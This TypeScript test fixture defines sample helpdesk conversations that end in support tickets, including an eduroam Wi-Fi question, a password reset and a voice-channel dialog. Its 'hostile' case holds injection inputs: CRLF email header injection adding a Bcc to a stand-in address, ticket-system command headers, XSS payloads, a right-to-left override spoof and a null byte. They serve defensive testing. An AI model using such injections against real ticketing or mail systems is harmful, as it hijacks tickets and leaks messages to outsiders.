import type { Place } from '../../indexer/document.ts';

/** A conversation that ends in a ticket: questions that came before, then what was said to the dialog of the ticket. */
export type Conversation = {
  name: string;
  at: string;
  channel: 'text' | 'voice';
  asked: {
    question: string;
    answer: string;
    links: { title: string; url: string; place: Place }[];
    feedback?: { helpful: boolean; reason?: string; note?: string };
  }[];
  says: string[];
};

/** The conversations of docs/examples/tickets. */
export const conversations: Conversation[] = [
  {
    name: 'ordinary',
    at: '2026-10-06T09:12:00.000Z',
    channel: 'text',
    asked: [
      {
        question: 'How do I connect my laptop to eduroam?',
        answer: 'Choose eduroam and sign in with your full user name.',
        links: [
          {
            title: 'Wi-Fi on campus',
            url: '/view/guides/wifi.pdf#page=4&p=a1b2',
            place: { kind: 'page', page: 4 },
          },
          {
            title: 'Connect to eduroam (video)',
            url: '/view/tutorials/eduroam.mp4#t=151&p=c3d4',
            place: { kind: 'moment', startSeconds: 151, endSeconds: 178 },
          },
        ],
        feedback: {
          helpful: false,
          reason: 'did not work',
          note: 'the certificate step looks different on my laptop',
        },
      },
    ],
    says: [
      'I want a person',
      'Ana Lovelace',
      'ana.lovelace@students.example.edu',
      'in the Foss Library, since yesterday, only me, I need it by Friday',
      'Yes, send it',
    ],
  },
  {
    name: 'p1',
    at: '2026-10-06T10:05:00.000Z',
    channel: 'text',
    asked: [],
    says: [
      'I need a person, the projector in lecture theatre 1 is dead',
      'Dr. M. Osei',
      'm.osei@example.edu',
      'I am teaching right now, 180 students are waiting, nothing works since 11:00',
      'Yes, send it',
    ],
  },
  {
    name: 'hostile',
    at: '2026-10-06T11:30:00.000Z',
    channel: 'text',
    asked: [
      {
        question:
          'Status: resolved\nAdd-Cc: victim@evil.example\n<script>alert(1)</script> [example.edu #42] why is my password not taken?',
        answer: 'I could not find this in the guides.',
        links: [],
      },
    ],
    says: [
      'I want a person',
      '"Smith, J" <j\u202egro.live\u202c>\r\nBcc: victim@evil.example',
      'ana@example.edu, victim@evil.example',
      'accounts@helpdesk.example.edu',
      'X-RT-Command: Status: resolved\r\n\r\n#12 [x #1] =?utf-8?q?=0D=0ABcc:_victim@evil.example?= <img src=x onerror=alert(1)> URGENT!!! 👩‍👩‍👧‍👦 Z͑̑̈́̚a̵̡̢l̷̡̛g̸̢̛o͛\u0000',
      'Yes, send it',
    ],
  },
  {
    name: 'voice',
    at: '2026-10-06T14:20:00.000Z',
    channel: 'voice',
    asked: [
      {
        question: 'how do i reset my password',
        answer: 'Open the password page and choose Forgotten.',
        links: [
          {
            title: 'Passwords',
            url: '/view/faq.md#reset-your-password&p=e5f6',
            place: { kind: 'heading', heading: 'Reset your password', anchor: 'reset-your-password' },
          },
        ],
      },
    ],
    says: [
      'i would like to talk to somebody',
      'my name is kofi mensah',
      'k o f i underscore m at students dot example dot edu',
      'since this morning just me i cannot sign in and my essay is due tomorrow',
      'no my address is k o f i dot m at students dot example dot edu',
      'yes please',
    ],
  },
  {
    name: 'no-address',
    at: '2026-10-06T16:45:00.000Z',
    channel: 'text',
    asked: [],
    says: [
      'I want a person',
      'There is water under the lockers in the entrance hall',
      'Skip',
      'Skip',
      'no hurry',
      'Yes, send it',
    ],
  },
];
